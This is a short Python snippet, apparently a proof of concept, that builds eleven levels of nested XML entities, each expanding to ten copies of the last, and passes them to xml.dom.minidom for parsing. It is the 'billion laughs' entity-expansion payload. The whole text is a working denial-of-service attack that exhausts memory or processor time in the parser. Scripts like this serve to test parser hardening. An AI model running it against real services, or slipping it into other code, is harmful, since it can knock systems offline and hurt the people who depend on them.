from xml.dom import minidom
entities = '<!ENTITY a0 "ha">' + ''.join(f'<!ENTITY a{n} "{f"&a{n-1};" * 10}">' for n in range(1, 12))
minidom.parseString(f'<!DOCTYPE x [{entities}]><x>&a11;</x>')
